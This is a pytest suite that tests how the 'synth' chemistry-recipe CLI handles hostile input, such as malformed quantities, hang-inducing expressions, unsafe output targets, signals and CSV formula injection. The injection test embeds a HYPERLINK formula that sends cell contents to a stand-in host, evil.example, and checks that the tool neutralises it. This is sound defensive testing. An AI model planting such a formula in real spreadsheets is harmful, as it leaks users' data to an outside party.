"""Hostile input, one test per class (issue 11): each would catch its whole family, not one example.

1 nothing is silently misread; 2 nothing hangs; 3 no file that is not ours is clobbered; 4 exit codes;
5 one line where a traceback was; 6 validate finds what scale refuses; 7 the Python API; 8 spreadsheet
injection; 9 messages. The fuzzers that grow each family at random are in test_fuzz.py.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import stat

import pytest
from hypothesis import given, strategies as st
from test_robustness import AMPSI, run_cli  # tests/ is on sys.path (pytest rootdir import mode)

import synth
from synth import catalog
from synth.audit import validate
from synth.errors import InputError, ReactionError, RecipeError, SynthError
from synth.recipe import load, parse
from synth.render.cells import FORMULA_START, cell, comment
from synth.units import AMBIGUOUS, Q_, parse as parse_quantity


def one_line(err: str) -> bool:
    return err.startswith("synth: error: ") and err.count("\n") == 1 and "Traceback" not in err


def recipe_file(tmp_path, text: str, name: str = "r.yaml") -> str:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


# 1. Nothing is silently misread ------------------------------------------------------------------------------

MISREAD = ["1,5 kg", "[1,2] kg", "1 kg==2", "2 kg 3", "1 000 kg", "2,8 g", "9**9**9 kg", "10**400 kg", "(1 kg",
           "1 kg/0", "1 kg)", "1 (kg", "1 kg/", "1 ((((kg))))", "1 m**10", "1 kg**0.5", "5.5.5 g", "1e5 kg 2",
           "1 kg; 2", "{1} kg", "1 kg # 2", "0x10 g", "1_000 g", "--1 g",
           "\u0661\u0662 kg", "1\u0662 kg", "\uff11 kg"]  # Arabic-Indic and fullwidth digits are not 12, 12, 1


@pytest.mark.parametrize("text", MISREAD)
def test_a_quantity_is_one_number_and_one_unit(text):
    with pytest.raises(InputError, match=r"cannot read .* as a quantity: "):
        parse_quantity(text, "x")


@pytest.mark.parametrize("where", ["basis", "recipe", "vary", "T"])
def test_the_same_parser_serves_cli_recipes_and_api(capsys, tmp_path, where):
    """'1,5 kg' is refused wherever a quantity is read, with what was read."""
    if where == "basis":
        code, _, err = run_cli(capsys, "scale", "ampsi", "--basis", "AMPSi@C=1,5 kg")
    elif where == "recipe":
        text = AMPSI.replace("mass: {q: 2.8 g", "mass: {q: '1,5 g'")
        line = next(i for i, row in enumerate(text.splitlines(), 1) if "1,5 g" in row)
        code, _, err = run_cli(capsys, "validate", recipe_file(tmp_path, text))
        assert f"r.yaml:{line}:9: recipe.steps[0].feeds.Si.mass: " in err  # the line of the Si feed's mass
    elif where == "vary":
        code, _, err = run_cli(capsys, "sweep", "ampsi", "--vary", "leaching.acid.excess=0..1,5 %:3")
    else:
        code, _, err = run_cli(capsys, "thermo", "2 Mg + Si -> Mg2Si", "--T", "1,5 K")
    assert code == 2 and one_line(err) and "read '1', then ','" in err, err


@pytest.mark.parametrize("unit, choices", [("mt", "'t' or 'tonne'"), ("ton", "'short_ton'"), ("tons", "'short_ton'"),
                                           ("gr", "'g' for gram")])
def test_ambiguous_units_are_refused_with_the_choices(capsys, unit, choices):
    code, _, err = run_cli(capsys, "scale", "ampsi", "--basis", f"AMPSi@C=1 {unit}")
    assert code == 2 and one_line(err) and f"the unit '{unit}' is ambiguous" in err and choices in err
    assert set(AMBIGUOUS) == {"mt", "ton", "tons", "gr"}


def test_offset_units_in_a_rate_are_differences():
    """pint's expression parser read '2 degC/min' as (275.15 K)/min; a heating rate of 2 °C/min is 2 K/min."""
    assert parse_quantity("2 degC/min", "ramp").to("K/min").magnitude == pytest.approx(2.0)


@pytest.mark.parametrize("text, grams", [("5 g", 5), ("5g", 5), ("2.8 g", 2.8), (".5 g", 0.5), ("1e3 g", 1000),
                                         ("1.5e-3 kg", 1.5), ("-2 g", -2), ("1 kg", 1000), ("2.2 lb", 997.903214),
                                         ("1 t", 1e6), ("1 tonne", 1e6), ("1 short_ton", 907184.74)])
def test_what_chemists_type_is_read_as_written(text, grams):
    assert parse_quantity(text, "x").to("g").magnitude == pytest.approx(grams, rel=1e-9)


def test_hydrate_written_with_a_period_is_not_balanced_wrongly():
    with pytest.raises(ReactionError, match="ambiguous"):
        synth.balance("MgCl2.6H2O -> MgCl2 + Cl2 + H2O")


@pytest.mark.parametrize("equation", ["H2O -> H2O", "2 H2O -> H2O + H2O", "Mg(l) -> Mg(l)"])
def test_no_reaction_is_refused(equation):
    with pytest.raises(ReactionError, match="is no reaction"):
        synth.parse_equation(equation)


@pytest.mark.parametrize("args", [
    ("uncertainty", "ampsi", "--samples"), ("uncertainty", "ampsi", "--seed"), ("uncertainty", "ampsi", "--sobol"),
    ("uncertainty", "ampsi", "--workers"), ("campaign", "ampsi", "--rate", "0.05 kg/day", "--batches"),
    ("plan", "ampsi", "--rate", "0.05 kg/day", "--batches"), ("thermo", "MgCl2 -> Mg + Cl2", "--electrons"),
    ("plan", "ampsi", "--rate", "0.05 kg/day", "--hours"), ("species", "import", "x.txt", "--degree"),
    ("species", "import", "x.txt", "--T-max"), ("species", "import", "x.txt", "--split"),
])
@pytest.mark.parametrize("text", ["١٠", "1_0", " 10", "10 ", "1,0", "0x10", "inf", "nan", "1e999",
                                  pytest.param("9" * 5000, id="5000 nines"), ""])
def test_a_number_option_is_ascii_digits_or_refused(capsys, args, text):
    """Click's int and float read what Python's do (``١٠`` and ``1_0`` as 10, `` 10`` as 10, ``inf``): every
    number option of the command line is read as a quantity's number is, or refused in one line."""
    code, _, err = run_cli(capsys, *args, text)
    assert code == 2 and one_line(err) and len(err) < 200, err
    assert f"Invalid value for '{args[-1]}'" in err and ("ASCII digits" in err or "more than 4,300 digits" in err), err


def test_a_long_seed_is_a_seed(capsys):
    """numpy takes a seed of any size: 31 digits are read (they were, by click), 4,301 are refused in one line."""
    code, out, err = run_cli(capsys, "uncertainty", "ampsi", "-n", "20", "--seed", "1" * 31, "--json")
    assert code == 0 and json.loads(out)["seed"] == int("1" * 31), err
    code, _, err = run_cli(capsys, "uncertainty", "ampsi", "--seed", "1" * 4301)
    assert code == 2 and one_line(err) and "has more than 4,300 digits" in err, err


# 2. No hang, no runaway memory -------------------------------------------------------------------------------

def test_powers_of_numbers_are_refused_everywhere(capsys, tmp_path):
    """'9**9**9' ran for minutes in pint: refused before any arithmetic, in --basis, recipes and the API."""
    code, _, err = run_cli(capsys, "scale", "ampsi", "--basis", "AMPSi@C=9**9**9 kg")
    assert code == 2 and "powers of numbers are not allowed" in err
    path = recipe_file(tmp_path, AMPSI.replace("mass: {q: 2.8 g", "mass: {q: '9**9**9 g'"))
    for command in ("validate", "scale"):
        code, _, err = run_cli(capsys, command, path)
        assert code == 2 and "powers of numbers are not allowed" in err, err
        assert re.search(r"r\.yaml:\d+:\d+: recipe\.steps\[0\]\.feeds\.Si\.mass: ", err), err
    with pytest.raises(InputError, match="powers of numbers"):
        synth.scale(parse(AMPSI.replace("mass: {q: 2.8 g", "mass: {q: '9**9**9 g'"), "r.yaml"))


@pytest.mark.parametrize("kind", ["fifo", "device", "folder", "empty name"])
def test_only_regular_files_are_read(capsys, tmp_path, kind):
    """A FIFO blocked for ever and /dev/zero grew without end: refused before reading."""
    target = {"fifo": str(tmp_path / "pipe.yaml"), "device": "/dev/zero", "folder": str(tmp_path), "empty name": ""}
    if kind == "fifo":
        os.mkfifo(target[kind])
    code, _, err = run_cli(capsys, "validate", target[kind])
    assert code == 2 and one_line(err)
    assert {"fifo": "is a FIFO", "device": "is a character device", "folder": "is a folder",
            "empty name": "give a bundled recipe"}[kind] in err


def test_a_recipe_larger_than_the_limit_is_read_no_further(tmp_path, monkeypatch):
    """At most the limit plus one byte is read, whatever the file claims: here a file that grows as it is read."""
    import synth.yamlio as yamlio

    monkeypatch.setattr(yamlio, "MAX_BYTES", 100)
    path = tmp_path / "big.yaml"
    path.write_text("# " + "x" * 10_000)
    with pytest.raises(RecipeError, match="larger than the 100 bytes"):
        load(str(path))


def test_heat_path_with_a_zero_step_is_refused():
    for step in (0, -5, 1e-9, float("nan")):
        with pytest.raises(InputError, match="step"):
            synth.heat_path("Mg", "300 K", "900 K", step=step)


def test_sweep_csv_comes_in_blocks(monkeypatch):
    """The CSV of a sweep is written block by block (bounded memory), and the blocks join to the whole table."""
    import synth.render.sweep_view as view
    from synth.provenance import provenance
    from synth.sweep import Range, sweep

    recipe = load("ampsi")
    result = sweep(recipe, [Range.parse("leaching.acid.excess=0..50 %:23", recipe)])
    monkeypatch.setattr(view, "CSV_ROWS", 5)
    blocks = list(view.to_csv(result, provenance(synth.species_db())))
    assert len(blocks) == 1 + 5  # the header, then ceil(23 / 5) blocks of rows
    rows = list(csv.reader(line for line in io.StringIO("".join(blocks)) if not line.startswith("#")))
    assert len(rows) == 24 and float(rows[-1][0]) == 50.0


# 3. Output files: never clobber what is not ours ---------------------------------------------------------------

def _no_part_files(folder) -> bool:
    return not [p for p in os.listdir(folder) if p.endswith(".part")]


@pytest.mark.parametrize("command", [("scale", "--json"), ("sheet", "-f", "csv", "--table", "bom"), ("cost", "--json"),
                                     ("sweep", "--vary", "leaching.acid.excess=0..5 %:2"), ("uncertainty",),
                                     ("plan", "-b", "Si=1 g"), ("campaign", "-n", "2", "-b", "Si=1 g")])
def test_the_input_recipe_is_never_replaced(capsys, tmp_path, command):
    path = recipe_file(tmp_path, AMPSI)
    code, _, err = run_cli(capsys, command[0], path, *command[1:], "-o", path)
    assert code == 2 and one_line(err) and "that is an input file of this command" in err
    assert (tmp_path / "r.yaml").read_text(encoding="utf-8") == AMPSI


def test_a_bundled_name_is_not_a_file(capsys, tmp_path, monkeypatch):
    """`synth scale ampsi -o ampsi` writes a file called ampsi: the bundled recipe is not a file here."""
    monkeypatch.chdir(tmp_path)
    code, _, _ = run_cli(capsys, "scale", "ampsi", "--json", "-o", "ampsi")
    assert code == 0 and json.loads((tmp_path / "ampsi").read_text())["recipe"]["name"] == "ampsi"


def test_plot_and_csv_cannot_be_the_same_file(capsys, tmp_path):
    same = str(tmp_path / "same.out")
    code, _, err = run_cli(capsys, "sweep", "ampsi", "--vary", "leaching.acid.excess=0..5 %:2", "-o", same,
                           "--plot", same)
    assert code == 2 and "that is the -o file" in err and not os.path.exists(same)
    code, _, err = run_cli(capsys, "campaign", "ampsi", "-n", "2", "-b", "Si=1 g", "--csv", same, "--plot", same)
    assert code == 2 and "that is the --csv file" in err and not os.path.exists(same)


def _hard_link(tmp_path) -> str:
    (tmp_path / "a.json").write_text("keep")
    os.link(tmp_path / "a.json", tmp_path / "b.json")
    return str(tmp_path / "b.json")


def _pipe_behind_a_link(tmp_path) -> str:
    """A link to a pipe's descriptor, as /dev/fd/1 is when stdout is a pipe (its real path is no file)."""
    read, write = os.pipe()
    PIPES.extend((read, write))  # closed by the test once the command has run
    return f"/proc/self/fd/{write}"


PIPES: list[int] = []


TARGETS = {
    "/dev/null": (lambda tmp: "/dev/null", "is a character device"),
    "/dev/full": (lambda tmp: "/dev/full", "is a character device"),
    "fifo": (lambda tmp: os.mkfifo(tmp / "fifo") or str(tmp / "fifo"), "is a FIFO"),
    "folder": (lambda tmp: str(tmp), "is a folder"),
    "missing folder": (lambda tmp: str(tmp / "missing" / "x.json"), "does not exist"),
    "long name": (lambda tmp: str(tmp / ("x" * 300 + ".json")), "longer than the"),
    "hard link": (_hard_link, "hard links"),
    "empty": (lambda tmp: "", "give a file name"),
    "missing folder, trailing slash": (lambda tmp: str(tmp / "out") + "/", "names a folder (it ends with '/')"),
    "a pipe behind a link": (_pipe_behind_a_link, "is a FIFO"),  # /dev/fd/1 with stdout a pipe: no traceback
}


@pytest.mark.parametrize("kind", TARGETS)
def test_targets_synth_must_not_write_are_refused_before_the_work(capsys, tmp_path, kind):
    make, message = TARGETS[kind]
    target = make(tmp_path)
    before = sorted(os.listdir(tmp_path))
    code, _, err = run_cli(capsys, "scale", "ampsi", "--json", "-o", target)
    assert code == 2 and one_line(err) and message in err, err
    assert sorted(os.listdir(tmp_path)) == before
    if kind == "hard link":
        assert (tmp_path / "a.json").read_text() == "keep" and os.stat(tmp_path / "a.json").st_nlink == 2
    if kind == "fifo":
        assert stat.S_ISFIFO(os.stat(target).st_mode)
    while PIPES:
        os.close(PIPES.pop())


def test_an_existing_file_keeps_its_mode_and_a_symlink_is_followed(capsys, tmp_path):
    private = tmp_path / "plan.json"
    private.write_text("old")
    private.chmod(0o600)
    (tmp_path / "link.json").symlink_to(private)
    code, _, _ = run_cli(capsys, "scale", "ampsi", "--json", "-o", str(tmp_path / "link.json"))
    assert code == 0 and stat.S_IMODE(private.stat().st_mode) == 0o600
    assert (tmp_path / "link.json").is_symlink() and json.loads(private.read_text())["recipe"]["name"] == "ampsi"


@pytest.mark.parametrize("dash", ["-", "/dev/stdout"])
def test_dash_writes_stdout(capsys, dash):
    code, out, _ = run_cli(capsys, "scale", "ampsi", "--json", "-o", dash)
    assert code == 0 and json.loads(out)["recipe"]["name"] == "ampsi"


def test_a_failed_write_is_one_line_and_leaves_nothing(capsys, tmp_path, monkeypatch):
    """A full disk (ENOSPC) while writing: exit 2, one line, the old file kept, no part file."""
    import errno

    (tmp_path / "plan.json").write_text("old")

    def full(fd):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    code, _, err = run_cli(capsys, "scale", "ampsi", "--json", "-o", str(tmp_path / "plan.json"))
    assert code == 2 and one_line(err) and "No space left on device" in err
    assert (tmp_path / "plan.json").read_text() == "old" and _no_part_files(tmp_path)


# 4. Exit codes ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("signum, code, word", [(signal.SIGINT, 130, "interrupted"),
                                                (signal.SIGTERM, 143, "terminated (SIGTERM)"),
                                                (signal.SIGHUP, 129, "terminated (SIGHUP)")])
def test_an_interrupt_exits_130_with_one_line_and_no_part_file(capsys, tmp_path, monkeypatch, signum, code, word):
    """The signal arrives while the output is being written; the part file goes, the old file stays."""
    import synth.cli.output as output

    (tmp_path / "plan.json").write_text("old")
    real = output._write

    def slow(fh, content):
        real(fh, content)
        os.kill(os.getpid(), signum)

    monkeypatch.setattr(output, "_write", slow)
    got, _, err = run_cli(capsys, "scale", "ampsi", "--json", "-o", str(tmp_path / "plan.json"))
    assert got == code and one_line(err) and word in err
    assert (tmp_path / "plan.json").read_text() == "old" and _no_part_files(tmp_path)
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # handlers are put back
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL


def test_debug_keeps_the_exit_code(capsys):
    code, _, err = run_cli(capsys, "--debug", "scale", "ampsi", "--basis", "Si=0 g")
    assert code == 2 and "Traceback" in err and err.splitlines()[-1].startswith("synth: error: ")


# 5. One line where a traceback was ------------------------------------------------------------------------

@pytest.mark.parametrize("args", [
    ("scale", "ampsi", "--basis", "Si=(1 kg"), ("scale", "ampsi", "--basis", "Si=1 kg/0"),
    ("scale", "ampsi", "--basis", "Si=10**400 kg"), ("thermo", "2 Mg + Si -> Mg2Si", "--T", "(300 K"),
    ("thermo", "2 Mg + Si -> Mg2Si", "--P", "1 bar/0"), ("heat", "Mg", "--to", "10**400 K"),
    ("heat", "Mg", "--from", "[1] K", "--to", "400 K"),
    ("equilibrium", "-a", "Mg=1 mol/0", "-p", "Mg(g)", "--T", "1 K"),
    ("sweep", "ampsi", "--vary", "leaching.acid.excess=(0..5 %:2"), ("heat", "Tris", "--to", "400 K"),
    ("species", "((((((((((Mg)2)2)2)2)2)2)2)2)2)2"), ("thermo", "((((((((((H)9)9)9)9)9)9)9)9)9)9 -> H2"),
    ("species", "H" + "9" * 400),
    ("thermo", " + ".join(["H2"] * 2000) + " -> H2"), ("species", "Mg" * 100_000), ("balance", "x" * 100_000),
    ("validate", "a\x00b.yaml"), ("scale", "ampsi", "-o", "a\x00b"), ("validate", "x.yaml" * 1000),
])
def test_bad_arguments_give_one_line(capsys, args):
    code, _, err = run_cli(capsys, *args)
    assert code == 2 and one_line(err), err


@pytest.mark.parametrize("edit, message", [
    (("version: 1", "version: 2020-01-01"), None),  # a date stays text: valid, and JSON can hold it
    (("version: 1", "version: !!binary aGVsbG8="), "binary values (!!binary) are not allowed"),
    (("version: 1", "version: !!set {a, b}"), "set values (!!set) are not allowed"),
    (("version: 1", "version: .nan"), "'.nan' is not a finite number"),
    (("version: 1", "version: " + "[" * 250 + "]" * 250), "nested more than 40 levels deep"),
    (("type: acid_leach", "type: [acid_leach]"), "unknown step type ['acid_leach']"),
])
def test_what_validate_passes_scale_writes_as_json(capsys, tmp_path, edit, message):
    path = recipe_file(tmp_path, AMPSI.replace(*edit))
    code, _, err = run_cli(capsys, "validate", path)
    assert (code == 0) == (message is None) and (message is None or message in err), err
    code, out, err = run_cli(capsys, "scale", path, "--json")
    assert (code == 0 and json.loads(out)) if message is None else (code == 2 and one_line(err))
    code, _, err = run_cli(capsys, "sweep", path, "--list")
    assert code == (0 if message is None else 2) and (message is None or one_line(err))


# 6. validate finds what scale refuses, with its place ---------------------------------------------------------

@pytest.mark.parametrize("edit, where", [
    (("magnesium: alloying", "magnesium: nosuch"), "returns.magnesium: no step 'nosuch'"),
    (("magnesium: alloying", "nosuchout: alloying"), "returns.nosuchout: step 'recycling' has no output"),
    (("carbon_content: {q: 8.5 wt%, ref: An2019, range: [8.0 wt%, 9.0 wt%], dist: uniform",
      "carbon_content: {q: 60 wt%, ref: An2019"),
     "carbon_content: 60.0% carbon needs"),
    (("title: ", "title: a\x00"), "invalid YAML: character U+0000"),
])
def test_validate_reports_with_file_line_and_column(tmp_path, edit, where):
    text = AMPSI.replace(*edit)
    line = next(i for i, row in enumerate(text.splitlines(), 1) if edit[1] in row)
    try:
        problems = validate(parse(text, "r.yaml"))
    except RecipeError as exc:
        problems = [str(exc)]
    assert len(problems) == 1 and problems[0].startswith(f"r.yaml:{line}:") and where in problems[0], problems


@pytest.mark.parametrize("name, field", [("nitridation.gas.excess", "recipe.steps[1].gas.excess"),
                                         ("leaching.acid.excess", "recipe.steps[2].acid.excess"),
                                         ("recycling.synthesis.excess", "recipe.steps[3].synthesis.excess")])
def test_a_swept_excess_below_zero_is_refused_where_it_is_read(name, field):
    """The schema refuses a negative excess in the file; a sweep's values reach the steps, which read every excess
    the same way (Spec.excess) and name the field."""
    from synth.sweep import Range, sweep

    recipe = load("ampsi")
    with pytest.raises(RecipeError, match=re.escape(f"{field}: expected an excess of 0 or more (the surplus over "
                                                    "what the reactions consume), found -0.1 to 0.1")):
        sweep(recipe, [Range.parse(f"{name}=-10..10 %:3", recipe)])


# 7. The Python API -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("call, argument", [
    (lambda r: synth.scale(r, 5), "basis: expected 'MATERIAL=QUANTITY'"),
    (lambda r: synth.scale(r, Q_(1, "K")), "expected a quantity of dimension mass"),
    (lambda r: synth.scale(r, db="x"), "db: expected a species database"),
    (lambda r: synth.scale(42), "recipe: expected a Recipe"),
    (lambda r: synth.quantities(synth.scale(r)[0], "leaching", "sideways"), "side: expected 'inputs' or 'outputs'"),
    (lambda r: synth.quantities(synth.scale(r), "leaching"), "write plan, _ = synth.scale"),
    (lambda r: synth.quantities(synth.scale(r)[0], "nosuch"), "no step 'nosuch'"),
    (lambda r: r.with_values({"recipe.steps[2].acid.exces": 0.1}), "is not a quantity of ampsi"),
    (lambda r: r.with_values({"recipe.steps[\u0662].acid.excess": 0.1}), "is not a quantity of ampsi"),  # not [2]
    (lambda r: synth.balance("Mg -> Si"), "cannot balance 'Mg -> Si'"),
    (lambda r: synth.balance(5), "equation: expected text"),
    (lambda r: synth.reaction_thermo("2 Mg + Si -> Mg2Si", "300 K", electrons="2"), "electrons: '2'"),
    (lambda r: synth.heat_path(5, "300 K", "400 K"), "species: expected a name or formula"),
    (lambda r: synth.equilibrate(["Mg"], "Mg(g)", "1000 K"), "amounts: expected a mapping"),
    (lambda r: synth.load_recipe(None), "recipe None"),
    (lambda r: synth.quantity(5, "mass", "m"), "m: expected a quantity of dimension [mass]"),
])
def test_public_functions_name_the_bad_argument(call, argument):
    with pytest.raises(SynthError) as err:
        call(load("ampsi"))
    assert argument in str(err.value) and isinstance(err.value, (InputError, TypeError))


def test_public_functions_take_the_natural_forms():
    recipe = load("ampsi")
    by_name, _ = synth.scale("ampsi", "AMPSi@C=1 kg")
    by_quantity, _ = synth.scale(recipe, Q_(1, "kg"))
    by_path, _ = synth.scale(str(catalog.folder() / "ampsi.yaml"), "AMPSi@C=1000 g")
    assert by_name.scale == pytest.approx(by_quantity.scale, rel=1e-12) == pytest.approx(by_path.scale, rel=1e-12)
    result = synth.equilibrate({"Mg3N2": "1 mol", "N2": "1 mol"}, "Mg3N2(cr),Mg(g),N2(g)", "1600 K")
    assert {s.name for s in result.species} == {"Mg3N2(cr)", "Mg(g)", "N2(g)"}


# 8. Spreadsheet injection ------------------------------------------------------------------------------------

@given(st.text(max_size=30))
def test_no_cell_starts_a_formula(text):
    out = cell(text)
    assert not out.startswith(FORMULA_START) and out.lstrip("'") in (text, text[1:]) and out.endswith(text)


@given(st.text(max_size=40))
def test_no_comment_line_holds_a_formula(text):
    """A ``#`` provenance line stays one line, and no cell a spreadsheet splits it into starts a formula."""
    line = comment(text)
    assert line.startswith("# ") and line.count("\n") == 1 and line.endswith("\n") and len(line.splitlines()) == 1
    assert not any(c.startswith(FORMULA_START) for c in next(csv.reader([line])))


def test_sheet_csv_neutralises_recipe_text(capsys, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    path = recipe_file(tmp_path, AMPSI.replace('grade: {text: "powder, 200 mesh"', f"grade: {{text: '{evil}'"))
    code, out, _ = run_cli(capsys, "sheet", path, "-f", "csv", "--table", "bom", "--date", "2025-01-01")
    rows = list(csv.reader(io.StringIO(out)))
    assert code == 0 and ["'" + evil] == [c for r in rows for c in r if "HYPERLINK" in c]
    numbers = [c for r in rows for c in r if c[:1] == "-"]
    assert all(float(c) < 0 for c in numbers)  # negative numbers stay numbers


def _text_cells_are_inert(path) -> list[list[str]]:
    """The rows of a CSV file, after checking that every cell (those a spreadsheet splits the ``#`` lines into
    too) is a number, empty, or text that starts no formula."""
    rows = list(csv.reader(open(path, encoding="utf-8", newline="")))
    for row in rows:
        for c in row:
            try:
                float(c)
            except ValueError:
                assert not c.startswith(FORMULA_START), c
    return rows


@pytest.mark.parametrize("command", [("sweep", "--vary", "@leach.acid.excess=0..5 %:2"), ("uncertainty", "-n", "8")])
def test_sweep_and_uncertainty_csv_neutralise_names_and_paths(capsys, tmp_path, command):
    """A step id and a recipe path are user text: a step called '@leach' names the CSV's columns, and a comma in
    the path would start a cell in the ``#`` provenance line."""
    if command[0] == "uncertainty":
        pytest.importorskip("SALib")
    text = AMPSI.replace("id: leaching", 'id: "@leach"').replace("step: leaching", 'step: "@leach"')
    path = recipe_file(tmp_path, text.replace("hcl: leaching", 'hcl: "@leach"'), "a,=1+1.yaml")
    out = tmp_path / "out.csv"
    code, _, err = run_cli(capsys, command[0], path, *command[1:], "-o", str(out))
    assert code == 0, err
    rows = _text_cells_are_inert(out)
    header = next(row for row in rows if not row[0].startswith("#"))
    assert any(c.startswith("'@leach.acid.excess") for c in header)
    assert rows[0][0].startswith("# synth") and rows[0][1].startswith("'=1+1.yaml (sha256 ")  # the path's comma


# 9. Messages -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("args, message", [
    (("scale", "ampsi", "--basis", "AMPSi@C=1 000 kg"), "read '1', then '000 kg'"),
    (("thermo", "->"), "an argument that starts with '-' goes after '--'"),
    (("thermo", "--", "->"), "expected one arrow between reactants and products"),
    (("scale", ""), "give a bundled recipe"),
    (("thermo", "Mg -> Mg", "--solve-T"), "'Mg -> Mg' is no reaction"),
    (("scale", "ampsi", "--basis", "AMPSi@C=1e-300 kg"), "is not a positive, finite batch size (1e-12 to 1e12 × lab)"),
    (("species", "MgCl2.6H2O"), "ambiguous: the hydrate MgCl2·6H2O"),
])
def test_messages(capsys, args, message):
    code, _, err = run_cli(capsys, *args)
    assert code == 2 and one_line(err) and message in err, err


def test_a_temperature_past_every_phase_is_said_as_such(capsys):
    """1e6 K is past the data of every phase of Mg: the message says so and gives their ranges (it was the
    heat path's inner step guard: "step: 5.0 K must be positive and at least 1/100,000 of the span")."""
    code, _, err = run_cli(capsys, "heat", "Mg", "--to", "1e6 K")
    assert code == 2 and one_line(err)
    assert "no phase of Mg has data at 1e+06 K: Mg(cr) (298.15-923 K), Mg(l) (923-6000 K)" in err
